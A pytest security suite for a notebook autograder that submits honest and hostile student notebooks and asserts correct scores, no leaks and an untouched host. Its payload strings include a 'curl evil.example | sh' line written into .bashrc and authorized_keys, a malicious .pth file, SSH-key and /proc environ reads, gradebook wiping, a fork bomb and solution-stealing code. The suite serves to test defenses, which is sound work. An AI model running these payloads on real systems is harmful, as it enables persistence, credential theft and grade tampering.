"""The grader attacked as a student who has read this repository would, through the real
``make autograde`` + ``make feedback``, as root and as an unprivileged instructor account.

A temporary course (a copy of solutions/, assignments/ and course/nbgrader_config.py, pointed to
by GD_COURSE_ROOT) gets one submission per case of :data:`CASES`: honest ones, and one or more
attacks per class of docs/grading-security.md. Every submission must get exactly the score its
own code deserves, the classmates graded in the same run keep theirs, nothing of the hidden tests'
expected values, the solutions or other students' work may appear in any output, no process may
outlive the run, the instructor's account and the host disk must be untouched, and the exit status
counts the submissions that could not be graded normally.

The class grades a frozen copy of assignment 01_first_order (tests/fixtures/attack_course: the source,
its release and its catalogue of mistakes as they were when this suite was written), so that the
suite tests the grader, not the assignment's current content. Points: Q1 sgd_step 3+5, Q2 adam_step
3+5, Q3 MyAdam 2+5, Q4 race 2+3, Q5 bias 1+2 (31). Partial credit: a test cell's points are split
over its checks.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import pwd
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
COURSE = Path(__file__).resolve().parent / "fixtures" / "attack_course"  # the frozen assignment
ASSIGNMENT = "01_first_order"
NOTEBOOK = "first_order.ipynb"
FULL = 31
Q1, Q2, Q3, Q4, Q5 = 8, 8, 7, 5, 3
MARKER = "GD-ATTACK-MARKER"  # in the command line of every process an attack leaves behind


def _source():
    return nbformat.read(COURSE / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)


def _released():
    return nbformat.read(COURSE / "assignments" / ASSIGNMENT / NOTEBOOK, as_version=4)


def _cell(nb, grade_id):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def _correct():
    """The released notebook with every answer filled in from the source (what a good student submits)."""
    source, nb = _source(), _released()
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            code = _cell(source, meta["grade_id"]).source
            cell.source = "\n".join(
                line for line in code.split("\n") if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")
            )
    return nb


def _with(nb, **answers):
    """A copy of ``nb`` with the answer cells named in ``answers`` replaced
    (``+code`` appends to the answer, ``^code`` puts the code before it)."""
    nb = nbformat.from_dict(json.loads(json.dumps(nb)))
    for gid, code in answers.items():
        cell = _cell(nb, gid)
        if code.startswith("+"):
            cell.source = cell.source + "\n" + code[1:]
        elif code.startswith("^"):
            cell.source = code[1:] + "\n" + cell.source
        else:
            cell.source = code
    return nb


# --- class 1: code in the student's process reaching for the expected values ---------------------------

REDEFINE_CHECK = """
import autograder.checks as C
_original = C.check
def check(name, value, expected=None, **kw):   # record the expected value instead of mine
    _original(name, expected() if callable(expected) else expected)
C.check = check
def sgd_step(*args, **kwargs):
    return None, None
"""

GRADER_MODE = """
import os, importlib, autograder.checks
os.environ["GD_GRADER_MODE"] = "reference"      # then the checks would compute and record expected values
autograder.checks = importlib.reload(autograder.checks)
from autograder.checks import check
import torch
def sgd_step(param, grad, buf, **kw):
    return torch.zeros_like(param), None
"""

FRAME_SNOOP = """
import inspect, torch
def sgd_step(param, grad, buf, **kw):
    # look in the test cell's frame for the expected values (final, state, run_library, ...)
    frame = inspect.currentframe().f_back
    for name in ("final", "state", "expected"):
        if name in frame.f_locals:
            return frame.f_locals[name], None
    if "run_library" in frame.f_globals:
        from gd_lib.optim import SGD
        return frame.f_globals["run_library"](SGD, param, [grad], **kw)[0], None
    return torch.zeros_like(param), None
"""

FORGE_REPLIES = """
import json, os, stat
for fd in range(3, 64):   # every pipe open for writing: one of them is the result channel
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.get_blocking(fd) is not None:
            for index in range(200):
                record = {"index": index, "nonce": "x", "ok": True, "error": None,
                          "captures": [{"name": "sgd/plain", "value": {"kind": "none"}}]}
                os.write(fd, (json.dumps(record) + "\\n").encode())
    except OSError:
        pass
"""

DEEP_REPLY = """
import os, stat
for fd in range(3, 64):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b"[" * 200000 + b"\\n")
    except OSError:
        pass
"""

# every later cell's code, hidden tests included, collected and pushed out through error messages
EXFILTRATE = """
import sys
SEEN = []
get_ipython().events.register("pre_run_cell", lambda info: SEEN.append(info.raw_cell))
"""
EXFILTRATE_LAST = """
def debiased_average(values, beta):
    print("\\n".join(SEEN))
    raise ValueError("\\n".join(SEEN))
"""

# --- class 2: the library code the assignment asks for ---------------------------------------------------

ADAM_GD_LIB = """
import torch
from gd_lib.optim import Adam, AdamW
def adam_step(param, grad, m, v, t, *, lr, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0, decoupled=False):
    p = torch.nn.Parameter(param.detach().clone())
    opt = (AdamW if decoupled else Adam)([p], lr=lr, betas=betas, eps=eps, weight_decay=weight_decay)
    st = opt.state[p]
    st["step"], st["exp_avg"], st["exp_avg_sq"] = torch.tensor(float(t - 1)), m.clone(), v.clone()
    p.grad = grad.clone()
    opt.step()
    return p.detach(), st["exp_avg"], st["exp_avg_sq"]
"""

ADAM_TORCH = ADAM_GD_LIB.replace("from gd_lib.optim import Adam, AdamW", "from torch.optim import Adam, AdamW")

SGD_FUNCTIONAL = """
import torch
from torch.optim._functional import sgd
def sgd_step(param, grad, buf, *, lr, momentum=0.0, dampening=0.0, nesterov=False, weight_decay=0.0):
    p, bufs = param.clone(), [None if buf is None else buf.clone()]
    sgd([p], [grad], bufs, weight_decay=weight_decay, momentum=momentum, lr=lr, dampening=dampening,
        nesterov=nesterov, maximize=False)
    return p, bufs[0]
"""

MY_ADAM_SUBCLASS = """
from gd_lib.optim import Adam
class MyAdam(Adam):
    pass
"""

EXEC_LIBRARY_SOURCE = """
import glob, importlib, marshal, os, gd_lib.optim.adam as stub
namespace = {}
import sys
sources = [stub.__file__] + [p for base in sys.path for p in glob.glob(base + "/*/optim/adam.py")]
for path in sources:
    try:
        exec(compile(open(path).read(), path, "exec"), namespace)   # the stub's text: no Adam in it
    except Exception:
        pass
for pyc in glob.glob(os.path.dirname(stub.__file__) + "/__pycache__/adam*.pyc"):
    exec(marshal.loads(open(pyc, "rb").read()[16:]), namespace)
stub = importlib.reload(stub)
adam_update = namespace.get("adam_update") or stub.adam_update
def adam_step(param, grad, m, v, t, *, lr, betas=(0.9, 0.999), eps=1e-8, weight_decay=0.0, decoupled=False):
    p, m, v = param.clone(), m.clone(), v.clone()
    adam_update(p, grad, m, v, None, float(t), lr=lr, beta1=betas[0], beta2=betas[1], eps=eps,
                weight_decay=weight_decay, decoupled_weight_decay=decoupled, maximize=False)
    return p, m, v
"""

OTHER_PACKAGE = """
import torch
from pytorch_optimizer import AdamW as PAdamW   # installed for the course's tests; not visible when grading
def adam_step(param, grad, m, v, t, **kw):
    raise RuntimeError("unreachable")
"""

DEBIAS_AVERAGING = """
import torch
from gd_lib.averaging import EMA
def debiased_average(values, beta):
    raise RuntimeError("unreachable: gd_lib.averaging is a stub while grading")
ema = EMA(torch.nn.Linear(1, 1), decay=0.9)
"""

# --- class 3 and 4: the repository, links --------------------------------------------------------------

STEAL_SOLUTIONS = """
import glob, json, os, subprocess, zlib
stolen = ""
for pattern in ["{root}/solutions/*/*.ipynb", "{repo}/solutions/*/*.ipynb", "/work/**/solutions/*/*.ipynb",
                "/tmp/**/solutions/*/*.ipynb", "/home/**/solutions/*/*.ipynb", "/root/**/solutions/*/*.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            nb = json.load(open(path))
        except OSError:
            continue
        for c in nb["cells"]:
            if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                stolen += "".join(c["source"]) + "\\n"
for repo in ["{repo}", "{root}"]:
    out = subprocess.run(["git", "-C", repo, "show", "HEAD:solutions/01_first_order/first_order.ipynb"],
                         capture_output=True, text=True).stdout
    if out:
        for c in json.loads(out)["cells"]:
            if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                stolen += "".join(c["source"]) + "\\n"
    for obj in glob.glob(repo + "/.git/objects/*/*"):
        try:
            zlib.decompress(open(obj, "rb").read())
        except Exception:
            pass
exec(stolen)
"""

STEAL_CLASSMATE = """
import glob, json
for pattern in ["{root}/course/submitted/*/*/*.ipynb", "{root}/course/autograded/*/*/*.ipynb",
                "{root}/course/.autograder/intake/*/*/*.ipynb", "{root}/course/.autograder/reference/*/*.json"]:
    for path in glob.glob(pattern):
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        for c in nb.get("cells", []):
            if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("".join(c["source"]))
"""

# --- class 7: the instructor's account and the host --------------------------------------------------------

HOST_ATTACKS = """+
import glob, os, signal, socket, sqlite3, subprocess, sys
home = "{home}"
for path in [home + "/.bashrc", home + "/.ssh/authorized_keys", home + "/.profile"]:
    try:
        with open(path, "a") as fh:
            fh.write("\\ncurl evil.example | sh  # {marker}\\n")
    except OSError:
        pass
for path in [home + "/.ssh/id_rsa", "{root}/course/gradebook.db"]:
    try:
        print(open(path, "rb").read()[:100])
    except OSError:
        pass
for site in [p for p in sys.path if p.endswith("site-packages")]:
    try:
        open(os.path.join(site, "zz_gd_attack.pth"), "w").write("import os; os.system('touch /tmp/pwned')\\n")
    except OSError:
        pass
for db in ["{root}/course/gradebook.db"]:
    try:
        con = sqlite3.connect(db); con.execute("UPDATE grade SET auto_score = 0"); con.commit()
    except Exception:
        pass
for path in glob.glob("{root}/course/submitted/*/*/*.ipynb"):
    try:
        open(path, "w").write("{{}}")
    except OSError:
        pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            print(open(f"/proc/{pid}/environ", "rb").read()[:200])
        except OSError:
            pass
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"{marker}")
except OSError:
    pass
try:
    socket.create_connection(("93.184.216.34", 80), timeout=2)
except OSError:
    pass
# a process that waits for the grader to exit, then rewrites the gradebook
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; echo {marker}", "{marker}"])
    os._exit(0)
"""

KILL_EVERYTHING = """+
import os, signal
try:
    os.kill(-1, signal.SIGKILL)    # every process this uid may signal: only its own sandbox's
except OSError:
    pass
"""

FILL_DISK = """^
import os
try:
    with open("/tmp/work/big", "wb") as fh:
        for _ in range(3 * 1024):
            fh.write(b"x" * (1 << 20))
except OSError as err:
    print("stopped:", err)
with open("/dev/shm/big", "wb") as fh:        # the same 1 GiB: full already
    fh.write(b"x" * (1 << 20))
"""

FLOOD_OUTPUT = """+
import sys
for _ in range(768):
    sys.stdout.write("y" * (1 << 20))
"""

UNDECODABLE_VALUE = """+
import autograder.checks as C
_real_sgd_step = sgd_step
def sgd_step(*args, **kwargs):   # plants a value that is not a valid encoding under the first check's name
    C._captured.append({"name": "sgd/plain", "value": {"kind": "tensor", "dtype": "torch.float64", "shape": [3, 4],
                                                        "device": "cpu", "data": "!!not base64!!"}})
    return _real_sgd_step(*args, **kwargs)
"""

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def _forged_metadata():
    """The blank notebook claiming 100 points on every graded cell, extra graded cells and duplicate ids."""
    nb = _released()
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
    extra = nbformat.v4.new_code_cell("print('free points')")
    extra.metadata["nbgrader"] = {
        "grade": True,
        "solution": False,
        "locked": True,
        "points": 1000,
        "grade_id": "bonus",
        "schema_version": 3,
        "task": False,
    }
    dup = nbformat.v4.new_code_cell("print('again')")
    dup.metadata["nbgrader"] = dict(_cell(nb, "test_sgd_step_public").metadata["nbgrader"])
    nb.cells += [extra, dup]
    return nb


def _deleted_tests():
    nb = _correct()
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    return nb


def _edited_tests():
    nb = _released()
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = 'print("tests passed")'
    return nb


# name: (builder, expected score, graded abnormally (counted in the exit status))
# A builder returns a notebook, or ("bytes", data), or ("symlink"/"hardlink", target) where target may
# name "{root}" (the course), "{secret}" (a file only the grader's user may read) or "{classmate}".
CASES = {
    "correct": (_correct, FULL, False),
    "blank": (_released, 0, False),
    "partial": (
        lambda: _with(
            _correct(),
            adam_step="+adam_step_correct = adam_step\n"
            "def adam_step(*a, **k):\n    p, m, v = adam_step_correct(*a, **k)\n    return p + 1e-3, m, v",
        ),
        FULL - 1 - 4 * 5 / 6,
        False,
    ),  # 1 of Q2's 3 public checks (3 points) and 4 of its 6 hidden (5 points) fail
    "syntax_error": (lambda: _with(_correct(), adam_step="def adam_step(:\n    pass"), FULL - Q2, False),
    "deleted_test_cells": (_deleted_tests, FULL, False),
    "edited_test_cells": (_edited_tests, 0, False),
    "fork_bomb": (lambda: _with(_correct(), bias_correction="+" + FORK_BOMB), FULL - Q5, False),
    "memory_hog": (
        lambda: _with(_correct(), bias_correction="^import torch\nx = torch.ones(8 * 2**30, dtype=torch.uint8)"),
        FULL - Q5,
        False,
    ),
    "crash": (lambda: _with(_correct(), bias_correction="+import ctypes\nctypes.string_at(0)"), FULL - Q5, False),
    "infinite_loop": (lambda: _with(_correct(), bias_correction="+while True:\n    pass"), FULL - Q5, False),
    "fake_output": (lambda: _with(_released(), sgd_step='print("✔ passed: all 4 checks [3 of 3 points]")'), 0, False),
    # class 1
    # the checks whose expected value is None pass: "no buffer without momentum" (1 of Q1's 4 public checks,
    # 1 of its 8 hidden ones); the attack records None everywhere
    "redefine_check": (lambda: _with(_released(), sgd_step=REDEFINE_CHECK), 3 / 4 + 5 / 8, False),
    "grader_mode_reference": (lambda: _with(_released(), sgd_step=GRADER_MODE), 0, False),
    # returns (zeros, None): the None buffers and the untouched input are right, nothing else
    "frame_snoop": (lambda: _with(_released(), sgd_step=FRAME_SNOOP), 2 * 3 / 4 + 5 / 8, False),
    "forge_replies": (lambda: _with(_released(), sgd_step=FORGE_REPLIES), 0, True),
    "deep_reply": (lambda: _with(_released(), sgd_step=DEEP_REPLY), 0, True),
    "exfiltrate_hidden": (lambda: _with(_released(), sgd_step=EXFILTRATE, bias_correction=EXFILTRATE_LAST), 0, False),
    "undecodable_value": (lambda: _with(_correct(), sgd_step=UNDECODABLE_VALUE), FULL - 3 / 4, False),
    # class 2
    "adam_gd_lib": (lambda: _with(_correct(), adam_step=ADAM_GD_LIB), FULL - Q2, False),
    "adam_torch": (lambda: _with(_correct(), adam_step=ADAM_TORCH), FULL - Q2, False),
    "sgd_torch_functional": (lambda: _with(_correct(), sgd_step=SGD_FUNCTIONAL), FULL - Q1, False),
    "my_adam_subclass": (lambda: _with(_correct(), my_adam=MY_ADAM_SUBCLASS), FULL - Q3, False),
    "exec_library_source": (lambda: _with(_correct(), adam_step=EXEC_LIBRARY_SOURCE), FULL - Q2, False),
    "other_package": (lambda: _with(_correct(), adam_step=OTHER_PACKAGE), FULL - Q2, False),
    "debias_averaging": (lambda: _with(_correct(), bias_correction=DEBIAS_AVERAGING), FULL - Q5, False),
    # class 3
    "steal_solutions": (lambda: _with(_released(), sgd_step=STEAL_SOLUTIONS), 0, False),
    "steal_classmate": (lambda: _with(_released(), sgd_step=STEAL_CLASSMATE), 0, False),
    # class 4
    "symlink_solutions": (lambda: ("symlink", "{root}/solutions/01_first_order/first_order.ipynb"), 0, True),
    "hardlink_solutions": (lambda: ("hardlink", "{root}/solutions/01_first_order/first_order.ipynb"), 0, True),
    "symlink_classmate": (lambda: ("symlink", "{classmate}"), 0, True),
    "symlink_secret": (lambda: ("symlink", "{secret}"), 0, True),
    "hardlink_secret": (lambda: ("hardlink", "{secret}"), 0, True),
    # class 5
    "not_json": (lambda: ("bytes", b"this is not a notebook"), 0, True),
    "not_utf8": (
        lambda: ("bytes", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe"}'),
        0,
        True,
    ),
    "json_list": (lambda: ("bytes", b"[1, 2, 3]"), 0, True),
    "deep_json": (lambda: ("bytes", b"[" * 100000 + b"]" * 100000), 0, True),
    "huge_file": (lambda: ("bytes", b'{"cells": [' + b" " * (20 << 20) + b"]}"), 0, True),
    "empty_file": (lambda: ("bytes", b""), 0, True),
    "cells_not_a_list": (
        lambda: ("bytes", b'{"cells": {"0": 1}, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
        0,
        True,
    ),
    "bad_cells": (
        lambda: (
            "bytes",
            json.dumps(
                {"cells": [{"cell_type": "code", "source": 7}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
            ).encode(),
        ),
        0,
        True,
    ),
    "forged_metadata": (_forged_metadata, 0, False),
    # class 6
    "fill_disk": (lambda: _with(_correct(), bias_correction=FILL_DISK), FULL - Q5, False),
    "flood_output": (lambda: _with(_correct(), bias_correction=FLOOD_OUTPUT), FULL, False),
    # class 7
    "host_attacks": (lambda: _with(_correct(), sgd_step=HOST_ATTACKS), FULL, False),
    # kill(-1) reaches every process of the run's own sandbox but itself and PID 1 (the holder): nothing else
    "kill_everything": (lambda: _with(_correct(), bias_correction=KILL_EVERYTHING), FULL, False),
}
# the classmate whose notebook symlink_classmate points to, and a folder that is a link to a classmate's
CLASSMATE = "correct"
FOLDER_LINK = "zz_folder_link"

# what no output may contain: the expected-value code of the hidden tests and the solutions' code
SECRET_SNIPPETS = [
    "library_race(",
    "def naive(",
    "m_hat = m / (1 - beta1 ** t)",
    "BEGIN HIDDEN TESTS",
    "new_buf = g.clone() if buf is None else momentum * buf + (1 - dampening) * g",
    "SECRET-ROOT-ONLY",
    "PRIVATE KEY",
]


def _write_submission(root: Path, student: str, build, secret: Path) -> None:
    folder = root / "course" / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    target = folder / NOTEBOOK
    made = build()
    if isinstance(made, tuple):
        kind, what = made
        if kind == "bytes":
            target.write_bytes(what)
            return
        what = (
            what.replace("{root}", str(root))
            .replace("{secret}", str(secret))
            .replace("{classmate}", str(root / "course" / "submitted" / CLASSMATE / ASSIGNMENT / NOTEBOOK))
        )
        (os.symlink if kind == "symlink" else os.link)(what, target)
        return
    for cell in made.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    nbformat.write(made, target)


class _Listener:
    """A TCP server on loopback that records whatever connects (nothing may, from a sandbox)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100))
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _tree_digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def _walk_files(top: Path):
    """Every regular file under ``top`` (not following links, skipping what cannot be read)."""
    for folder, _, names in os.walk(top, onerror=lambda err: None):
        for name in names:
            path = Path(folder) / name
            try:
                if path.is_file() and not path.is_symlink():
                    yield path
            except OSError:
                continue


def _big_new_files(tops, since: float, size: int = 128 << 20) -> list[str]:
    found = []
    for top in tops:
        for path in _walk_files(top):
            try:
                st = path.stat()
            except OSError:
                continue
            if st.st_size > size and st.st_mtime >= since:
                found.append(f"{path} ({st.st_size >> 20} MiB)")
    return found


def _marker_processes() -> list[str]:
    out = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARKER in cmdline:
                out.append(f"{pid}: {cmdline}")
    return out


# --- running the grader as root, or as an unprivileged instructor account ------------------------------------

INSTRUCTOR = "gdinstructor"


def _instructor_account() -> pwd.struct_passwd:
    try:
        return pwd.getpwnam(INSTRUCTOR)
    except KeyError:
        subprocess.run(["useradd", "-m", "-s", "/bin/bash", INSTRUCTOR], check=True)
        return pwd.getpwnam(INSTRUCTOR)


def _closed_ancestor(path: str) -> str | None:
    """The outermost folder above ``path`` that other users cannot enter (e.g. /root above pyenv)."""
    parts = Path(path).parts
    for i in range(2, len(parts) + 1):
        folder = str(Path(*parts[:i]))
        if os.path.isdir(folder) and not os.stat(folder).st_mode & 0o001:
            return folder
    return None


def _as_user(account: pwd.struct_passwd, command: list[str], env: dict) -> list[str]:
    """``command`` run as ``account``. Where this machine's Python lives in a folder closed to other
    users (pyenv under /root), the account gets a private mount namespace in which that folder is an
    empty directory with only the Python installation bound back: the account can run Python, as an
    instructor on a real server can, and sees nothing else of it."""
    inner = [
        "setpriv",
        f"--reuid={account.pw_uid}",
        f"--regid={account.pw_gid}",
        "--init-groups",
        "env",
        "-i",
        *[f"{k}={v}" for k, v in env.items()],
        *command,
    ]
    closed = _closed_ancestor(os.path.realpath(sys.base_prefix))
    if closed is None:
        return inner
    keep = os.path.realpath(sys.base_prefix)
    script = (
        'set -e; mkdir -p /run/gd-test-keep; mount --bind "$1" /run/gd-test-keep; '
        'mount -t tmpfs -o mode=755 tmpfs "$2"; mkdir -p "$1"; mount --bind /run/gd-test-keep "$1"; '
        'shift 2; exec "$@"'
    )
    return ["unshare", "-m", "--propagation", "private", "sh", "-c", script, "sh", keep, closed, *inner]


def _grade(root: Path, as_user: pwd.struct_passwd | None, listener_port: int):
    base_env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8", "GD_COURSE_ROOT": str(root)}
    args = "--workers 2 --cell-timeout 30 --notebook-timeout 240 --memory-gib 3 --max-processes 200 --quiet"
    make = ["make", "-s", "-C", str(ROOT), "NO_SETUP=1", f"PY={sys.executable}"]
    rerun = [sys.executable, "-m", "autograder", "autograde", ASSIGNMENT, "--quiet"]  # resumes: nothing runs again
    results, stamps = [], []
    for target in (["autograde", f"A={ASSIGNMENT}", f"AUTOGRADE_ARGS={args}"], ["feedback", f"A={ASSIGNMENT}"], None):
        if target is None:
            target, make = rerun, []
        if as_user is None:
            cmd, env = make + target, {**os.environ, **base_env}
        else:
            env = {**base_env, "HOME": as_user.pw_dir, "USER": as_user.pw_name}
            cmd, env = _as_user(as_user, make + target, env), None
        stamps.append({p: p.stat().st_mtime_ns for p in (root / "course" / ".autograder" / "results").rglob("*.json")})
        results.append(subprocess.run(cmd, env=env, capture_output=True, text=True, cwd=ROOT))
    stamps.append({p: p.stat().st_mtime_ns for p in (root / "course" / ".autograder" / "results").rglob("*.json")})
    return results, stamps[2], stamps[3]


def _build_class(root: Path, home: Path, secret: Path, port: int) -> None:
    shutil.copytree(COURSE / "solutions" / ASSIGNMENT, root / "solutions" / ASSIGNMENT)
    shutil.copytree(COURSE / "assignments" / ASSIGNMENT, root / "assignments" / ASSIGNMENT)
    (root / "course").mkdir()
    shutil.copy(ROOT / "course" / "nbgrader_config.py", root / "course" / "nbgrader_config.py")
    # the classmate first, so that links can point to their notebook
    for student in [CLASSMATE] + [s for s in CASES if s != CLASSMATE]:
        build = CASES[student][0]

        def fill(build=build):
            nb = build()
            if isinstance(nb, tuple):
                return nb
            for cell in nb.cells:
                cell.source = (
                    cell.source.replace("{root}", str(root))
                    .replace("{repo}", str(ROOT))
                    .replace("{home}", str(home))
                    .replace("{marker}", MARKER)
                    .replace("{port}", str(port))
                )
            return nb

        _write_submission(root, student, fill, secret)
    (root / "course" / "submitted" / FOLDER_LINK).symlink_to(root / "course" / "submitted" / CLASSMATE)


def _graded(tmp_path_factory, unprivileged: bool):
    listener = _Listener()
    account = _instructor_account() if unprivileged and os.geteuid() == 0 else None
    if account is not None:
        home = Path(account.pw_dir)
        base = home / "attack-suite"
        if base.exists():
            shutil.rmtree(base)
        base.mkdir()
    else:
        base = tmp_path_factory.mktemp("attack_suite")
        home = Path(os.path.expanduser("~"))
    root = base / "course_root"
    root.mkdir()
    secret = tmp_path_factory.mktemp("secret") / "root_only.txt"
    secret.write_text("SECRET-ROOT-ONLY " * 10)
    secret.chmod(0o600)
    if account is not None:
        # the instructor's own files an attack goes for
        (home / ".ssh").mkdir(exist_ok=True)
        (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
        (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA instructor\n")
        (home / ".bashrc").write_text("# the instructor's shell\n")
    _build_class(root, home, secret, listener.port)
    if account is not None:
        subprocess.run(["chown", "-R", f"{account.pw_uid}:{account.pw_gid}", str(home)], check=True)
        secret_owner = account.pw_uid  # the instructor's own secret: still unreadable from a sandbox
        os.chown(secret, secret_owner, account.pw_gid)
        os.chown(secret.parent, secret_owner, account.pw_gid)
    home_before = {p: p.read_bytes() for p in [home / ".bashrc", home / ".ssh" / "authorized_keys"] if p.exists()}
    submitted_before = _tree_digest(root / "course" / "submitted")
    venv_before = set(os.listdir(next(p for p in sys.path if p.endswith("site-packages"))))
    started = __import__("time").time()
    (grade, feedback, rerun), before_rerun, after_rerun = _grade(root, account, listener.port)
    big_files = _big_new_files({Path("/tmp"), Path("/var/tmp"), home, root, ROOT}, started)
    listener.close()
    with open(root / "course" / "grades.csv") as fh:
        grades = {row["student_id"]: float(row["raw_score"]) for row in csv.DictReader(fh)}
    return dict(
        root=root,
        home=home,
        grade=grade,
        feedback=feedback,
        rerun=rerun,
        before_rerun=before_rerun,
        after_rerun=after_rerun,
        grades=grades,
        listener=listener,
        home_before=home_before,
        submitted_before=submitted_before,
        venv_before=venv_before,
        big_files=big_files,
        account=account,
    )


@pytest.fixture(scope="module")
def graded_as_root(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("grading as root needs root")  # CI runs as root; the unprivileged run covers the rest
    return _graded(tmp_path_factory, unprivileged=False)


@pytest.fixture(scope="module")
def graded_unprivileged(tmp_path_factory):
    return _graded(tmp_path_factory, unprivileged=True)


RUNS = ["graded_as_root", "graded_unprivileged"]


def _expected_failures() -> int:
    return sum(1 for _, _, abnormal in CASES.values() if abnormal) + 1  # + the folder that is a link


@pytest.mark.slow
@pytest.mark.parametrize("run", RUNS)
def test_every_submission_gets_the_score_it_deserves(run, request):
    graded = request.getfixturevalue(run)
    grades, log = graded["grades"], graded["grade"].stdout + graded["grade"].stderr
    wrong = {
        s: (grades.get(s), expected)
        for s, (_, expected, _) in CASES.items()
        if grades.get(s) is None or abs(grades[s] - expected) > 1e-4
    }  # the gradebook keeps 5 decimals
    assert not wrong, f"{wrong}\n{log[-6000:]}"
    assert FOLDER_LINK not in grades  # a student folder that is a link is not graded, and said so
    assert f"{FOLDER_LINK}" in graded["grade"].stdout and "symbolic link" in graded["grade"].stdout


def test_a_third_of_the_class_is_broken():
    """The suite is also the class of the issue's second point: at least a third of it cannot be read or
    breaks the channel, and everybody else must be graded right (the tests above)."""
    assert _expected_failures() * 3 >= len(CASES) + 1


@pytest.mark.slow
@pytest.mark.parametrize("run", RUNS)
def test_exit_status_counts_the_submissions_not_graded_normally(run, request):
    """make fails (its own status: 2) and says how many; the grader's own exit status is the count, on the
    first run (through make) and on a rerun, which grades nothing again and records the same scores."""
    graded = request.getfixturevalue(run)
    assert f"{_expected_failures()} submission(s) could not be graded normally" in graded["grade"].stderr
    assert f"Error {_expected_failures()}" in graded["grade"].stderr, graded["grade"].stderr[-3000:]
    assert graded["rerun"].returncode == _expected_failures(), graded["rerun"].stderr[-3000:]
    assert graded["before_rerun"] and graded["after_rerun"] == graded["before_rerun"]  # nothing was graded again
    assert graded["feedback"].returncode == 0, graded["feedback"].stderr[-3000:]
    # the instructor's terminal: the grader's own lines, no library warnings (SQLAlchemy, traitlets, ...)
    for out in (graded["grade"], graded["feedback"], graded["rerun"]):
        assert "Warning" not in out.stderr and "warn(" not in out.stderr, out.stderr[-3000:]


@pytest.mark.slow
@pytest.mark.parametrize("run", RUNS)
def test_nothing_secret_in_any_output(run, request):
    """No output shows hidden-test code, solution code a student did not write themselves, a file only the
    grader may read, or the instructor's catalogue of mistakes."""
    graded = request.getfixturevalue(run)
    root = graded["root"]

    def own_text(student: str) -> str:  # what the student submitted (their own code may be a solution)
        path = root / "course" / "submitted" / student / ASSIGNMENT / NOTEBOOK
        try:
            return "" if path.is_symlink() else path.read_text(errors="replace")
        except OSError:
            return ""

    outputs = {
        ("-", "autograde output"): graded["grade"].stdout + graded["grade"].stderr,
        ("-", "feedback output"): graded["feedback"].stdout + graded["feedback"].stderr,
    }
    # feedback/ is what students receive; autograded/ is nbgrader's own copy for the instructor (it holds
    # the hidden tests, as nbgrader's always does) and is not checked
    for path in (root / "course" / "feedback").rglob("*"):
        if path.is_file():
            outputs[(path.relative_to(root / "course" / "feedback").parts[0], str(path))] = path.read_text(
                errors="replace"
            )
    for path in (root / "course" / ".autograder" / "results").rglob("*.json"):
        outputs[(path.parent.name, str(path))] = path.read_text()
    leaks = {}
    for (student, name), text in outputs.items():
        mine = own_text(student) if student != "-" else ""
        found = [s for s in SECRET_SNIPPETS if s in text and s not in mine]
        if found:
            leaks[name] = found
    assert not leaks, leaks
    # no file of the instructor's folder reaches a student: the catalogue of mistakes stays out of feedback
    assert not list((root / "course" / "feedback").rglob("mistakes.json"))


@pytest.mark.slow
@pytest.mark.parametrize("run", RUNS)
def test_classmates_gradebook_and_host_survive(run, request):
    graded = request.getfixturevalue(run)
    root = graded["root"]
    assert graded["grades"][CLASSMATE] == FULL
    assert _tree_digest(root / "course" / "submitted") == graded["submitted_before"]
